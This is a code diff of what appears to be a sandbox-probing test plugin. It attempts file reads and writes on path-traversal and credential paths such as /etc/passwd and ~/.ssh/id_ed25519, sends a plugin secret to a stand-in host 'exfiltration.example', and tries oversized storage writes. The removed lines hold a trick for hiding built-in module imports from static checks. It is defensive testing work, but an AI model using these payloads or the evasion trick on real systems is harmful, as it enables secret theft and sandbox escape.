@@ -15,10 +15,20 @@ async function attempt(name, run) {
   }
 }
 
-/** Computed, so that no check of import statements sees the name. */
-const builtin = (name) => import(["node", name].join(":"));
-
-const PATHS = ["/etc/passwd", "${data}/../../../../etc/passwd", "${data}/..", "${data}/./../x", "../x", "", "\u0000", "/", "~/.ssh/id_ed25519", "${home}/x", "file:///etc/passwd", "${data}\\..\\x"];
+const PATHS = [
+  "/etc/passwd",
+  "${data}/../../../../etc/passwd",
+  "${data}/..",
+  "${data}/./../x",
+  "../x",
+  "",
+  "\u0000",
+  "/",
+  "~/.ssh/id_ed25519",
+  "${home}/x",
+  "file:///etc/passwd",
+  "${data}\\..\\x",
+];
 
 const answered = (value) => `answered with ${value === null ? "null" : typeof value}`;
 
@@ -29,7 +39,9 @@ export default {
       for (const path of paths) {
         evidence.push(
           await attempt(`ctx.files.read ${JSON.stringify(path)}`, async () => answered(await ctx.files.read(path))),
-          await attempt(`ctx.files.write ${JSON.stringify(path)}`, async () => answered(await ctx.files.write(path, "x"))),
+          await attempt(`ctx.files.write ${JSON.stringify(path)}`, async () =>
+            answered(await ctx.files.write(path, "x")),
+          ),
           await attempt(`ctx.files.list ${JSON.stringify(path)}`, async () => answered(await ctx.files.list(path))),
         );
       }
@@ -39,9 +51,13 @@ export default {
           if (value === undefined || value === null) throw new Error("not there");
           return answered(value);
         }),
-        await attempt("a secret in a request", async () => answered(await ctx.fetch("https://exfiltration.example/", { secrets: ["PLUGIN_SECRET_KEY"] }))),
+        await attempt("a secret in a request", async () =>
+          answered(await ctx.fetch("https://exfiltration.example/", { secrets: ["PLUGIN_SECRET_KEY"] })),
+        ),
         await attempt("a key of one megabyte", async () => answered(await ctx.kv.set("k".repeat(1_000_000), 1))),
-        await attempt("a value of three megabytes", async () => answered(await ctx.kv.set("big", "x".repeat(3_000_000)))),
+        await attempt("a value of three megabytes", async () =>
+          answered(await ctx.kv.set("big", "x".repeat(3_000_000))),
+        ),
       );
       return { evidence };
     },
